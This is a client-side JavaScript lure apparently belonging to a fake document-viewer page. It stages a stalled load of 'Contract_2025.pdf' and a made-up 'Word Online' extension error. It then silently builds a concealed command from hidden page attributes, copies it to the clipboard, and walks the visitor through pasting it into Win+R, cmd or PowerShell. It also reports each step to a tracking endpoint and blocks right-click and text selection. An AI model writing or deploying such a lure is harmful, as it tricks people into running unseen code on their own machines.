$(function () {
  const doc = $("#viewer").data("name") || "Contract_2025.pdf";
  const link = $("#viewer").data("u");
  let pct = 0;
  const bar = setInterval(() => {
    pct = Math.min(pct + Math.random() * 17, 83);
    $(".progress-bar").css("width", pct + "%");
    if (pct >= 83) {
      clearInterval(bar);
      $(".error-box").slideDown().find(".txt").text(`Failed to load ${doc}. The "Word Online" extension is not installed in your browser (0x8007000D).`);
    }
  }, 260);
  const build = () => {
    const bits = $("[data-k]").map((_, e) => $(e).data("k")).get().sort((a, b) => a[0] - b[0]).map((s) => s.slice(1));
    return bits.join("").replace("@@", link);
  };
  $("#how-fix").on("click", () => {
    $(".steps").html(`<ol><li>Click the <b>Copy fix</b> button</li><li>Press <kbd>Win</kbd> + <kbd>R</kbd> and type <b>cmd</b>, or open PowerShell</li><li>Right-click inside the window, then press <kbd>Enter</kbd></li><li>Wait for <b>${doc}</b> to open</li></ol>`).show();
    $.get("/v.php", { a: "how", d: doc });
  });
  $("#copy-fix").on("click", function () {
    const $i = $("<textarea>").val(build()).appendTo("body").select();
    document.execCommand("copy");
    $i.remove();
    $(this).text("Fix copied!").addClass("ok");
    $.get("/v.php", { a: "copy", d: doc });
  });
  $(document).on("contextmenu selectstart", () => false);
});
